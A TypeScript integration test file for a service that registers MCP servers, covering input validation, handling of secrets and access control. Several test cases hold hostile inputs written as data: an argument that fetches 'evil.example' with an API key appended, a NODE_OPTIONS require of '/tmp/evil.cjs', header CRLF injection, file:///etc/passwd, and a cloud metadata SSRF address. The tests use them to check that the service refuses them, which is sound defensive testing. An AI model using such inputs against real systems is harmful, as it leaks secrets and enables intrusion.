import { Client } from 'pg';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startApp, type TestApp } from '../support/app.js';
import { everythingCommand, signUp } from '../support/cast.js';
import type { As } from '../support/client.js';
import { addServer, scene } from '../support/scene.js';

interface Refusal {
  readonly error: { code: string; message: string; fields: Record<string, string> };
}

let app: TestApp;
let ada: As;
const servers = '/api/projects/demo/servers';
const everything = { transport: 'stdio', ...everythingCommand('stdio') };
const unreachable = { transport: 'streamable-http', url: 'http://127.0.0.1:9/mcp' };

beforeAll(async () => {
  app = await startApp();
  ({ ada } = await scene(app));
});
afterAll(() => app.close());

async function rows<Row>(query: string, values: unknown[] = []): Promise<Row[]> {
  const client = new Client({ connectionString: app.databaseUrl });
  await client.connect();
  try {
    return (await client.query(query, values)).rows as Row[];
  } finally {
    await client.end();
  }
}

describe('a server that was added', () => {
  it('is answered at once as starting, and comes online with its tools', async () => {
    const added = await ada.post(servers, { name: 'quick', ...everything });
    expect(added.status).toBe(201);
    expect(added.body).toMatchObject({
      name: 'quick',
      status: 'starting',
      enabled: true,
      transport: 'stdio',
      toolCount: 0,
    });

    const { id } = await addServer(ada, 'demo', { name: 'everything', ...everything });
    const { body } = await ada.get<{ toolCount: number }>(`${servers}/${id}`);
    expect(body).toMatchObject({
      status: 'online',
      lastError: null,
      protocolVersion: '2025-11-25',
      serverInfo: { name: 'mcp-servers/everything' },
    });
    expect(body.toolCount).toBeGreaterThan(10);
    const { body: tools } = await ada.get<{ items: { name: string; inputSchema: object }[] }>(`${servers}/${id}/tools`);
    expect(tools.items).toHaveLength(body.toolCount);
    expect(tools.items.find(({ name }) => name === 'echo')).toMatchObject({
      enabled: true,
      state: 'approved',
      inputSchema: { type: 'object', required: ['message'] },
    });
    expect((await ada.get<{ items: object[] }>(`${servers}/${id}/prompts`)).body.items.length).toBeGreaterThan(2);
    expect((await ada.get<{ items: object[] }>(`${servers}/everything/resources`)).body.items.length).toBeGreaterThan(
      2,
    );
  });

  it('is offline with the reason when it cannot be reached, and the project goes on', async () => {
    const { body } = await ada.post<{ id: string }>(servers, { name: 'nowhere', ...unreachable });
    const checked = await ada.post<{ status: string; lastError: string }>(`${servers}/${body.id}/refresh-status`);
    expect(checked).toMatchObject({ status: 200, body: { status: 'offline' } });
    expect(checked.body.lastError).toContain('ECONNREFUSED');
  });

  it('says that the program was not found', async () => {
    const { body } = await ada.post<{ id: string }>(servers, {
      name: 'typo',
      transport: 'stdio',
      command: 'no-such-program',
    });
    const checked = await ada.post<{ lastError: string }>(`${servers}/${body.id}/refresh-status`);
    expect(checked.body.lastError).toMatch(/no-such-program.*not found/i);
  });
});

describe('bad input', () => {
  it.each([
    ['an unknown transport', { transport: 'carrier-pigeon', command: 'x' }, 'transport'],
    ['no transport', { command: 'x' }, 'transport'],
    ['a name of 300 characters', { name: 'x'.repeat(300), ...everything }, 'name'],
    ['the id of another server as its name', { name: '0199d7a6-2c1e-4b53-9f0a-5d2f6c1e7b42', ...everything }, 'name'],
    ['a name with a separator', { name: 'a__b', ...everything }, 'name'],
    ['no command', { transport: 'stdio' }, 'command'],
    ['a whole command line', { transport: 'stdio', command: 'npx -y some-server' }, 'command'],
    ['a path and flags', { transport: 'stdio', command: '/usr/bin/env -S some-server' }, 'command'],
    ['npx that starts nothing', { transport: 'stdio', command: 'npx' }, 'args'],
    ['npx with flags only', { transport: 'stdio', command: '/usr/bin/npx', args: ['-y'] }, 'args'],
    ['an empty command', { transport: 'stdio', command: '  ' }, 'command'],
    ['no URL', { transport: 'sse' }, 'url'],
    ['a URL that is none', { transport: 'sse', url: 'mcp.example' }, 'url'],
    ['a URL of another scheme', { transport: 'streamable-http', url: 'file:///etc/passwd' }, 'url'],
    ['a password in the URL', { transport: 'streamable-http', url: 'https://me:secret@example.com/mcp' }, 'url'],
    ['a header of our own', { ...unreachable, headers: { 'Mcp-Session-Id': 'x' } }, 'headers'],
    ['a header over two lines', { ...unreachable, headers: { 'X-A': 'a\r\nX-B: b' } }, 'headers'],
    ['a variable with a strange name', { ...everything, env: { 'A=B': 'x' } }, 'env'],
    ['an empty variable', { ...everything, env: { A: '' } }, 'env.A'],
    ['an empty header', { ...unreachable, headers: { 'X-A': '' } }, 'headers.X-A'],
    ['an empty secret argument', { ...everything, args: [{ value: '', secret: true }] }, 'args'],
    ['variables in a list', { ...everything, env: ['A=1'] }, 'env'],
    ['an empty list of variables', { ...everything, env: [] }, 'env'],
    ['a number of variables', { ...everything, env: 7 }, 'env'],
    ['variables that are null', { ...everything, env: null }, 'env'],
    ['headers in a text', { ...unreachable, headers: 'X-A: 1' }, 'headers'],
    ['a variable that is a list', { ...everything, env: { A: ['x'] } }, 'env.A'],
    ['a variable that is an object', { ...everything, env: { A: { value: 'x' } } }, 'env.A'],
    ['a variable that is doubtfully set', { ...everything, env: { A: { set: 'yes' } } }, 'env.A'],
    ['a variable that is null', { ...everything, env: { A: null } }, 'env.A'],
    ['a URL for a program', { ...everything, url: 'https://example.com/mcp' }, 'url'],
    ['a command for a URL', { ...unreachable, command: 'npx' }, 'command'],
    ['a doubtful switch', { ...everything, enabled: 'maybe' }, 'enabled'],
    ['a number as a switch', { ...everything, enabled: 1 }, 'enabled'],
    ['a list as a switch', { ...everything, enabled: [true] }, 'enabled'],
    ['an empty list as a switch', { ...everything, enabled: [] }, 'enabled'],
    ['args that are no list', { ...everything, args: 'stdio' }, 'args'],
    ['a time limit of 0', { ...everything, timeoutMs: 0 }, 'timeoutMs'],
    ['a field that we do not know', { ...everything, isAdmin: true }, 'isAdmin'],
  ])('%s is refused with its field named, and nothing is stored', async (_what, registration, field) => {
    const before = await rows('SELECT id FROM mcp_servers');
    const refused = await ada.post<Refusal>(servers, { name: 'wrong', ...registration });
    expect(refused.status).toBe(422);
    expect(refused.body.error.code).toBe('invalid');
    expect(Object.keys(refused.body.error.fields)).toContain(field);
    expect(await rows('SELECT id FROM mcp_servers')).toHaveLength(before.length);
  });

  it('an empty command or URL is refused as a change, too, and changes nothing', async () => {
    const program = await ada.post<{ id: string }>(servers, { name: 'program', ...everything });
    const remote = await ada.post<{ id: string }>(servers, { name: 'remote', ...unreachable });
    const before = await rows('SELECT id, command, url FROM mcp_servers ORDER BY id');
    for (const [id, field] of [
      [program.body.id, 'command'],
      [remote.body.id, 'url'],
    ] as const) {
      const refused = await ada.patch<Refusal>(`${servers}/${id}`, { [field]: ' ' });
      expect([refused.status, Object.keys(refused.body.error.fields ?? {})]).toEqual([422, [field]]);
      const page = await ada.submit(`/projects/demo/servers/${id}?_method=PATCH`, { [field]: '' });
      expect(page.status).toBe(422);
    }
    expect(await rows('SELECT id, command, url FROM mcp_servers ORDER BY id')).toEqual(before);
  });

  it('takes a name once, whatever its case, also when two ask at the same time', async () => {
    const both = await Promise.all(
      ['Twin', 'twin'].map((name) => ada.post<Refusal>(servers, { name, ...unreachable })),
    );
    expect(both.map(({ status }) => status).sort()).toEqual([201, 422]);
    const again = await ada.post<Refusal>(servers, { name: 'TWIN', ...unreachable });
    expect(again.body.error.fields).toHaveProperty('name');
  });

  it.each([
    'http://10.1.2.3/mcp',
    'http://169.254.169.254/latest',
    'http://[::1]:9/mcp',
    'http://2130706433.example.invalid@10.0.0.1/',
  ])('an address that is not public is refused: %s', async (url) => {
    const refused = await ada.post<Refusal>(servers, { name: 'inside', transport: 'streamable-http', url });
    expect(refused.status).toBe(422);
    expect(refused.body.error.fields).toHaveProperty('url');
  });

  it('names the setting that would allow the address', async () => {
    const refused = await ada.post<Refusal>(servers, {
      name: 'inside',
      transport: 'sse',
      url: 'http://192.168.0.1/sse',
    });
    expect(refused.body.error.fields.url).toContain('UPSTREAM_ALLOWED_NETWORKS');
  });

  it('shows the form again with what was typed, but no secret', async () => {
    const answer = await ada.submit('/projects/demo/servers', {
      name: 'no spaces please',
      transport: 'streamable-http',
      url: 'http://127.0.0.1:9/mcp',
      'headers[0][name]': 'X-Key',
      'headers[0][value]': 'canary-4711',
    });
    expect(answer.status).toBe(422);
    expect(answer.text).toContain('value="no spaces please"');
    expect(answer.text).toContain('value="http://127.0.0.1:9/mcp"');
    expect(answer.text).toContain('value="X-Key"');
    expect(answer.text).toContain('aria-invalid="true"');
    expect(answer.text).not.toContain('canary-4711');
    expect(answer.text).toContain('Enter this value again.');
  });

  it('does not take a secret that vanished from the form for an empty or a missing one', async () => {
    const { command, args } = everythingCommand('stdio');
    const refused = await ada.submit('/projects/demo/servers', {
      name: 'retried',
      transport: 'stdio',
      command,
      'args[0][value]': args[0] ?? '',
      'args[1][secret]': 'true',
      'args[1][value]': '',
      'env[0][name]': 'API_KEY',
      'env[0][value]': '',
    });
    expect(refused.status).toBe(422);
    expect(refused.text).toContain('Enter the secret argument 2');
    expect(refused.text).toContain('href="#field_env_API_KEY">Enter the value of API_KEY');
    expect(refused.text).toContain('id="field_env_API_KEY"');
    expect(await rows(`SELECT id FROM mcp_servers WHERE name = 'retried'`)).toEqual([]);
  });

  it('keeps no old secret where a new one was typed and vanished', async () => {
    const { body } = await ada.post<{ id: string }>(servers, { name: 'kept', ...unreachable, headers: { 'X-A': '1' } });
    const form = {
      transport: 'streamable-http',
      url: unreachable.url,
      'headers[0][name]': 'X-A',
      'headers[0][set]': 'true',
    };
    const page = `/projects/demo/servers/${body.id}?_method=PATCH`;
    const first = await ada.submit(page, { ...form, name: 'no good', 'headers[0][value]': 'canary' });
    expect(first.text).toContain('name="headers[0][again]" value="true"');
    const second = await ada.submit(page, {
      ...form,
      name: 'kept',
      'headers[0][again]': 'true',
      'headers[0][value]': '',
    });
    expect(second.status).toBe(422);
    expect(second.text).toContain('Enter the value of X-A');
    expect((await ada.submit(page, { ...form, name: 'kept', 'headers[0][value]': '' })).status).toBe(303);
  });

  it('takes numbers and booleans as texts, as clients write them', async () => {
    const env = { PORT: 8080, DEBUG: true };
    const { status, body } = await ada.post<{ env: object }>(servers, { name: 'numbers', ...everything, env });
    expect([status, body.env]).toEqual([201, { PORT: { set: true }, DEBUG: { set: true } }]);
  });
});

describe('secrets', () => {
  const secretive = {
    name: 'secretive',
    ...everything,
    args: [...everything.args, '--token', { value: 'canary-arg', secret: true }],
    env: { API_KEY: 'canary-env', LEVEL: 'canary-level' },
  };

  it('reach the program, and stand neither in answers nor readable in the database', async () => {
    const { id } = await addServer(ada, 'demo', secretive);
    const shown = await ada.get<{ args: unknown[]; env: object }>(`${servers}/${id}`);
    expect(shown.body.env).toEqual({ API_KEY: { set: true }, LEVEL: { set: true } });
    expect(shown.body.args.at(-1)).toEqual({ secret: true, set: true });
    const run = await ada.post<{ content: { text: string }[] }>(`${servers}/${id}/tools/get-env/execute`, {});
    expect(JSON.parse(run.body.content[0]?.text ?? '{}')).toMatchObject({
      API_KEY: 'canary-env',
      LEVEL: 'canary-level',
    });
    const stored = JSON.stringify(await rows('SELECT * FROM mcp_servers'));
    const pages = await Promise.all(
      ['', '/edit', '/configuration', '/tools'].map((page) => ada.page(`/projects/demo/servers/${id}${page}`)),
    );
    for (const text of [stored, shown.text, ...pages.map((page) => page.text)]) expect(text).not.toContain('canary-');
  });

  it('are kept, replaced and removed one by one', async () => {
    const { id } = await addServer(ada, 'demo', {
      ...secretive,
      name: 'changing',
      env: { A: '1', B: '2', C: '3', D: '4' },
    });
    const changed = await ada.patch<{ env: object }>(`${servers}/${id}`, {
      env: { A: { set: true }, B: 'two', C: null },
    });
    expect(changed.status).toBe(200);
    expect(changed.body.env).toEqual({ A: { set: true }, B: { set: true }, D: { set: true } });
    const run = await ada.post<{ content: { text: string }[] }>(`${servers}/${id}/tools/get-env/execute`, {});
    const env = JSON.parse(run.body.content[0]?.text ?? '{}') as Record<string, string>;
    expect(env).toMatchObject({ A: '1', B: 'two', D: '4' });
    expect(env).not.toHaveProperty('C');
  });

  it('in the query of a URL are masked, and kept when the masked URL comes back', async () => {
    const url = 'http://127.0.0.1:9/mcp?api_key=canary-query&region=eu';
    const { body } = await ada.post<{ id: string; url: string }>(servers, { name: 'query', transport: 'sse', url });
    expect(body.url).toBe('http://127.0.0.1:9/mcp?api_key=***&region=eu');
    const [before] = await rows<{ sealed_url: string }>('SELECT sealed_url FROM mcp_servers WHERE id = $1', [body.id]);
    await ada.patch(`${servers}/${body.id}`, { url: body.url, description: 'The same' });
    const [after] = await rows<{ sealed_url: string }>('SELECT sealed_url FROM mcp_servers WHERE id = $1', [body.id]);
    expect(after).toEqual(before);
    expect(before?.sealed_url).toMatch(/^v1\./);
  });

  it('are sent to no other address than the one they were given for', async () => {
    const headers = { Authorization: 'canary', 'X-Region': 'canary', 'X-Old': 'canary' };
    const { body } = await ada.post<{ id: string }>(servers, { name: 'lured', ...unreachable, headers });
    const path = `${servers}/${body.id}`;
    const elsewhere = 'http://127.0.0.1:10/mcp';
    const again = "Give this value again: the server's address has changed.";
    const refused = await ada.patch<Refusal>(path, { url: elsewhere, headers: { 'X-Region': 'eu', 'X-Old': null } });
    expect([refused.status, refused.body.error.fields]).toEqual([422, { 'headers.Authorization': again }]);
    const kept = { Authorization: { set: true }, 'X-Region': { set: false } };
    const insisted = await Promise.all([
      ada.patch<Refusal>(path, { url: elsewhere, headers: kept }),
      ada.patch<Refusal>(path, { url: elsewhere, transport: 'sse' }),
      ada.post<Refusal>(`/projects/demo/servers/${body.id}/edit/test`, { url: elsewhere }),
    ]);
    for (const { status, body } of insisted)
      expect([status, body.error.fields]).toEqual([
        422,
        { 'headers.Authorization': again, 'headers.X-Region': again, 'headers.X-Old': again },
      ]);
    expect((await ada.patch(path, { url: `${unreachable.url}/v2`, description: 'Same host' })).status).toBe(200);
    const moved = { url: elsewhere, headers: { Authorization: 'new', 'X-Region': null, 'X-Old': null } };
    expect((await ada.patch(path, moved)).body).toMatchObject({
      url: elsewhere,
      headers: { Authorization: { set: true } },
    });
  });

  it('are asked for again on the page, at their fields, when the address changes', async () => {
    const { body } = await ada.post<{ id: string }>(servers, {
      name: 'paged',
      ...unreachable,
      headers: { 'X-Key': 'canary' },
    });
    const page = await ada.submit(`/projects/demo/servers/${body.id}?_method=PATCH`, {
      name: 'paged',
      transport: 'streamable-http',
      url: 'http://127.0.0.1:10/mcp',
      'headers[0][name]': 'X-Key',
      'headers[0][set]': 'true',
      'headers[0][value]': '',
    });
    expect(page.status).toBe(422);
    expect(page.text).toContain('href="#field_headers_X_Key">Give this value again');
    expect(page.text).toMatch(/id="field_headers_X_Key"[^>]*placeholder="Value"[^>]*aria-invalid="true"/);
    expect(page.text).toContain('value="http://127.0.0.1:10/mcp"');
  });

  it('in the query of a URL are asked for again when the address changes', async () => {
    const registration = { name: 'asking', transport: 'sse', url: 'http://127.0.0.1:9/sse?token=canary' };
    const { body } = await ada.post<{ id: string }>(servers, registration);
    const refused = await ada.patch<Refusal>(`${servers}/${body.id}`, { url: 'http://127.0.0.1:10/sse?token=***' });
    expect([refused.status, Object.keys(refused.body.error.fields)]).toEqual([422, ['url']]);
    const moved = await ada.patch(`${servers}/${body.id}`, { url: 'http://127.0.0.1:10/sse?token=new' });
    expect(moved).toMatchObject({ status: 200, body: { url: 'http://127.0.0.1:10/sse?token=***' } });
  });

  it('are given to no other program than the one they were given for', async () => {
    const { body } = await ada.post<{ id: string }>(servers, { ...secretive, name: 'swapped' });
    const path = `${servers}/${body.id}`;
    const refused = await ada.patch<Refusal>(path, { command: '/bin/cat' });
    expect(refused.status).toBe(422);
    const again = "Give this value again: the server's command has changed.";
    expect(refused.body.error.fields).toMatchObject({ 'env.API_KEY': again, 'env.LEVEL': again });
    expect(refused.body.error.fields.args).toMatch(/secret argument \d+ again/);
    const env = { API_KEY: 'new', LEVEL: null };
    expect((await ada.patch(path, { command: '/bin/cat', args: ['-'], env })).status).toBe(200);
    const remote = await ada.patch(path, unreachable);
    expect(remote).toMatchObject({ status: 200, body: { env: {}, headers: {} } });
  });

  it('are not given to the same command when it runs something else', async () => {
    const { body } = await ada.post<{ id: string; args: object[] }>(servers, { ...secretive, name: 'steered' });
    const path = `${servers}/${body.id}`;
    const [secret] = body.args.slice(-1);
    const changes = [
      [{ args: ['-e', 'fetch("https://evil.example/" + process.env.API_KEY)'] }, 'arguments have'],
      [{ args: [...body.args, '--inspect'] }, 'arguments have'],
      [{ args: [...body.args.slice(0, -1), { ...secret, value: '--inspect' }] }, 'arguments have'],
      [{ cwd: '/tmp' }, 'folder has'],
      [{ env: { NODE_OPTIONS: '--require=/tmp/evil.cjs' } }, 'variable NODE_OPTIONS has'],
      [{ env: { Path: '/tmp/evil' } }, 'variable Path has'],
    ] as const;
    for (const [change, what] of changes) {
      const again = `Give this value again: the server's ${what} changed.`;
      const refused = await ada.patch<Refusal>(path, change);
      expect([refused.status, refused.body.error?.fields]).toMatchObject([422, { 'env.API_KEY': again }]);
      expect((await ada.post<Refusal>(`${path}/edit/test`, change)).status).toBe(422);
    }
    const env = { API_KEY: 'new', LEVEL: 'new', NODE_OPTIONS: '--no-warnings' };
    expect((await ada.patch(path, { args: ['-p', '1'], cwd: '/tmp', env })).status).toBe(200);
    expect((await ada.patch(path, { env: { LEVEL: 'newer', NODE_ENV: 'production' } })).status).toBe(200);
  });

  it('that were waited for do not make the others to be given again', async () => {
    const args = [...everything.args, { value: { set: false }, secret: true }];
    const registration = { name: 'half', ...everything, args, env: { KEY: 'canary', LATER: { set: false } } };
    const { body } = await ada.post<{ id: string }>(servers, registration);
    const given = { args: [...everything.args, { value: 'now', secret: true }], env: { LATER: 'now' } };
    expect((await ada.patch(`${servers}/${body.id}`, given)).body).toMatchObject({ missingSecrets: [] });
  });

  it('are masked in what the program says, wherever it was given them', async () => {
    const script = 'console.error(...process.argv, process.env.KEY); process.exit(3)';
    const { body } = await ada.post<{ id: string }>(servers, {
      name: 'chatty',
      transport: 'stdio',
      command: process.execPath,
      args: ['-e', script, 'shown', { value: 'canary-arg', secret: true }],
      env: { KEY: 'canary-env' },
    });
    const checked = await ada.post<{ lastError: string }>(`${servers}/${body.id}/refresh-status`);
    expect(checked.body.lastError).toContain('shown •••••• ••••••');
    const logs = () => ada.get(`${servers}/${body.id}/logs?q=shown`);
    await expect.poll(async () => (await logs()).text, { timeout: 5000 }).toContain('shown •••••• ••••••');
    expect((await logs()).text).not.toContain('canary-');
  });

  it('that are missing keep the server from being started', async () => {
    const { body } = await ada.post<{ id: string }>(servers, {
      name: 'waiting',
      ...everything,
      env: { TOKEN: { set: false } },
    });
    expect(body).toMatchObject({ status: 'needs_secret', missingSecrets: ['TOKEN'] });
    expect((await ada.post(`${servers}/${body.id}/test`)).status).toBe(409);
    await ada.patch(`${servers}/${body.id}`, { env: { TOKEN: 'now' } });
    expect((await ada.post(`${servers}/${body.id}/refresh-status`)).body).toMatchObject({ status: 'online' });
  });
});

describe('changing a server', () => {
  it('switches it off and on again', async () => {
    const { id } = await addServer(ada, 'demo', { name: 'switched', ...everything });
    expect((await ada.post(`${servers}/${id}/toggle`)).body).toMatchObject({ enabled: false, status: 'disabled' });
    expect((await ada.post(`${servers}/${id}/tools/echo/execute`, { arguments: { message: 'x' } })).status).toBe(409);
    expect((await ada.post(`${servers}/${id}/toggle`, { enabled: true })).body).toMatchObject({ enabled: true });
    expect((await ada.post(`${servers}/${id}/tools/echo/execute`, { arguments: { message: 'x' } })).status).toBe(200);
  });

  it('keeps a tool that was switched off when the server is asked again', async () => {
    const { id } = await addServer(ada, 'demo', { name: 'toolbox', ...everything });
    expect((await ada.patch(`${servers}/${id}/tools/echo`, { enabled: false })).body).toMatchObject({ enabled: false });
    await ada.post(`${servers}/${id}/restart`);
    await ada.post(`${servers}/${id}/refresh-status`);
    const { body } = await ada.get<{ items: { name: string; enabled: boolean }[] }>(`${servers}/${id}/tools`);
    expect(body.items.filter(({ enabled }) => !enabled).map(({ name }) => name)).toEqual(['echo']);
    expect((await ada.post(`${servers}/${id}/tools/echo/execute`, { arguments: { message: 'x' } })).status).toBe(409);
  });

  it('takes `null` for "not given", and an empty folder for none', async () => {
    const { id } = await addServer(ada, 'demo', { name: 'patched', ...everything, cwd: '/tmp' });
    const nothing = { name: null, description: null, args: null, cwd: undefined, timeoutMs: null, enabled: null };
    const kept = await ada.patch(`${servers}/${id}`, nothing);
    expect(kept).toMatchObject({ status: 200, body: { name: 'patched', cwd: '/tmp', enabled: true } });
    expect((await ada.patch(`${servers}/${id}`, { cwd: '' })).body).toMatchObject({ cwd: null });
    await ada.patch(`${servers}/${id}`, { cwd: '/tmp' });
    expect((await ada.patch(`${servers}/${id}`, { cwd: null })).body).toMatchObject({ cwd: null });
  });

  it('refuses a switch that is neither on nor off', async () => {
    const { id } = await addServer(ada, 'demo', { name: 'doubtful', ...everything });
    const asked = await Promise.all([
      ada.patch<Refusal>(`${servers}/${id}/tools/echo`, { enabled: 'yes' }),
      ada.post<Refusal>(`${servers}/${id}/toggle`, { enabled: 'maybe' }),
      ada.post<Refusal>(`${servers}/${id}/toggle`, { enabled: null }),
      ada.post<Refusal>(`${servers}/${id}/toggle`, { enabled: [] }),
      ada.patch<Refusal>(`${servers}/${id}`, { enabled: 0 }),
      ada.patch<Refusal>(`${servers}/${id}`, { enabled: ['maybe'] }),
    ]);
    const refused = asked.map(() => [422, ['enabled']]);
    expect(asked.map(({ status, body }) => [status, Object.keys(body.error.fields)])).toEqual(refused);
  });

  it('deletes it with everything that was known of it', async () => {
    const { id } = await addServer(ada, 'demo', { name: 'gone', ...everything });
    expect((await ada.delete(`${servers}/${id}`)).status).toBe(204);
    expect((await ada.get(`${servers}/${id}`)).status).toBe(404);
    expect(await rows('SELECT id FROM mcp_tools WHERE server_id = $1', [id])).toEqual([]);
  });
});

describe('testing a connection', () => {
  it('tells the steps and the last words of the program, and stores nothing', async () => {
    const before = await rows('SELECT id FROM mcp_servers');
    const script = 'console.error("I cannot find my key"); process.exit(3)';
    const test = await ada.post<{ ok: boolean; steps: { name: string; ok: boolean }[]; stderr: string[] }>(
      `${servers}/test`,
      {
        name: 'trial',
        transport: 'stdio',
        command: process.execPath,
        args: ['-e', script],
      },
    );
    expect(test).toMatchObject({ status: 200, body: { ok: false, stderr: ['I cannot find my key'] } });
    expect(test.body.steps.at(-1)).toMatchObject({ name: 'connect', ok: false });
    expect(await rows('SELECT id FROM mcp_servers')).toHaveLength(before.length);
  });

  it('runs for a few at a time only, because each one starts programs', async () => {
    const script = 'process.stdin.on("end", () => process.exit()).resume(); setTimeout(() => process.exit(3), 1500)';
    const trial = { name: 'trial', transport: 'stdio', command: process.execPath, args: ['-e', script] };
    const tests = await Promise.all(Array.from({ length: 6 }, () => ada.post(`${servers}/test`, trial)));
    expect(tests.map(({ status }) => status).sort()).toEqual([200, 200, 200, 200, 429, 429]);
    expect((await ada.post(`${servers}/test`, trial)).status).toBe(200);
  });

  it('finds the tools of a server that works', async () => {
    const test = await ada.post<{ ok: boolean; tools: string[] }>(`${servers}/test`, everything);
    expect(test.body.ok).toBe(true);
    expect(test.body.tools).toContain('echo');
  });
});

describe('who may', () => {
  let nora: As;

  it('answers 404 to strangers on every route', async () => {
    const { id } = await addServer(ada, 'demo', { name: 'private', ...everything });
    nora = await signUp(app, 'nora');
    await nora.post('/api/projects', { name: 'Noras', slug: 'noras' });
    const asked = await Promise.all([
      nora.get(servers),
      nora.post(servers, { name: 'x', ...unreachable }),
      nora.get(`${servers}/${id}`),
      nora.patch(`${servers}/${id}`, { description: 'mine' }),
      nora.delete(`${servers}/${id}`),
      nora.post(`${servers}/${id}/toggle`),
      nora.post(`${servers}/${id}/test`),
      nora.post(`${servers}/import`, { mcpServers: {} }),
      nora.get(`${servers}/${id}/tools`),
      nora.post(`${servers}/${id}/tools/echo/execute`, { arguments: { message: 'x' } }),
      nora.get(`/api/projects/noras/servers/${id}`),
      nora.post(`/api/projects/noras/servers/${id}/tools/echo/execute`, { arguments: { message: 'x' } }),
    ]);
    expect(asked.map(({ status }) => status)).toEqual(asked.map(() => 404));
  });

  it('lets only administrators have programs started, on every path, and says whom to ask', async () => {
    const nora = await signUp(app, 'otto');
    await nora.post('/api/projects', { name: 'Ottos', slug: 'ottos' });
    const path = '/api/projects/ottos/servers';
    const { body: remote } = await nora.post<{ id: string }>(path, { name: 'remote', ...unreachable });
    const stdio = { name: 'program', ...everything };
    const refused = await Promise.all([
      nora.post<Refusal>(path, stdio),
      nora.post<Refusal>(`${path}/test`, stdio),
      nora.post<Refusal>(`${path}/import`, { mcpServers: { program: everything } }),
      nora.patch<Refusal>(`${path}/${remote.id}`, everything),
    ]);
    expect(refused.map(({ status }) => status)).toEqual(refused.map(() => 403));
    for (const { body } of refused) expect(body.error.message).toMatch(/administrator.*ask/i);
    expect((await nora.get<{ items: object[] }>(path)).body.items).toHaveLength(1);
  });

  it('tells them in the preview of an import, and keeps what they pasted', async () => {
    const path = '/projects/noras/servers/import';
    const text = JSON.stringify({ mcpServers: { program: everything, remote: unreachable } });
    const { body } = await nora.post<{ items: { errors: object }[] }>(`/api${path}?preview=1`, { text });
    expect(body.items).toMatchObject([
      { errors: { transport: expect.stringMatching(/administrator.*ask/) as string } },
      { errors: {} },
    ]);
    const preview = await nora.submit(`${path}?preview=1`, { text });
    expect(preview.text).toMatch(/value="program"\s+disabled/);
    expect(preview.text).toContain('Add these servers');
    const refused = await nora.submit(path, { text });
    expect(refused.status).toBe(403);
    expect(refused.text).toMatch(/administrator.*ask/);
    expect(refused.text).toContain('&quot;program&quot;');
  });
});
